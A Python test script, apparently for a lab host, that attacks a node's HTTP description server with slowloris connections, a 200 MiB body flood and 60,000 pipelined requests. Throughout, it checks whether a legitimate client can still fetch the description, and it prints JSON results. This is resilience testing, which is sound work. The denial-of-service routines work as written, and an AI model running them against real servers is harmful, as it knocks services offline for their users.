"""
In a lab host: attack a node's description server and, throughout, fetch the
description as a legitimate client would; print one JSON line.

argv: MODE HOST PORT [SOURCE]
  slowloris  1100 connections, each sending one byte every 2 s, for 20 s
  body       a POST with a 200 MiB body: how much could be sent before the answer
  pipeline   60,000 pipelined GETs on one connection: how many answers came back
  get        one GET from SOURCE (default: any local address): the status or the error
  watch      a GET every second for SECONDS (argv[4]): every status
"""

import json
import socket
import sys
import threading
import time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
GET = f"GET /description.xml HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def get(source=None, timeout=5.0):
    data = b""
    try:
        conn = socket.create_connection(
            (host, port), timeout=timeout, source_address=(source, 0) if source else None
        )
        with conn:
            conn.sendall(GET)
            while chunk := conn.recv(65536):
                data += chunk
    except ConnectionResetError:
        pass  # closed with our request unread: a reset instead of an end
    except OSError as e:
        return f"error {e.__class__.__name__}"
    return int(data.split(b" ", 2)[1]) if data else "closed"


def legit(results, stop):
    while not stop.is_set():
        results.append(get())
        stop.wait(1)


if mode == "get":
    print(json.dumps({"status": get(sys.argv[4] if len(sys.argv) > 4 else None)}))
elif mode == "watch":
    results, stop = [], threading.Event()
    checker = threading.Thread(target=legit, args=(results, stop))
    checker.start()
    time.sleep(float(sys.argv[4]))
    stop.set()
    checker.join()
    print(json.dumps({"legit": results}))
elif mode == "slowloris":
    conns, refused = [], 0
    for _ in range(1100):
        try:
            conns.append(socket.create_connection((host, port), timeout=2))
        except OSError:
            refused += 1
    end = time.monotonic() + 20
    while time.monotonic() < end:
        alive = []
        for conn in conns:
            try:
                conn.send(b"G")
                alive.append(conn)
            except OSError:
                conn.close()
        conns = alive
        time.sleep(2)
    held = len(conns)
    for conn in conns:
        conn.close()
    print(json.dumps({"held": held, "refused": refused}))
elif mode == "body":
    conn = socket.create_connection((host, port), timeout=10)
    conn.sendall(b"POST /description.xml HTTP/1.1\r\nHost: x\r\nContent-Length: 209715200\r\n\r\n")
    sent, answer = 0, b""
    chunk = b"x" * 65536
    try:
        while sent < 209715200:
            conn.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    try:
        answer = conn.recv(200)
    except OSError:
        pass
    print(json.dumps({"sent": sent, "answer": answer.decode("latin-1")[:40]}))
elif mode == "pipeline":
    conn = socket.create_connection((host, port), timeout=10)
    try:
        conn.sendall(GET * 60000)
    except OSError:
        pass
    data = b""
    try:
        while chunk := conn.recv(65536):
            data += chunk
    except OSError:
        pass
    print(json.dumps({"answers": data.count(b"HTTP/1.1 ")}))
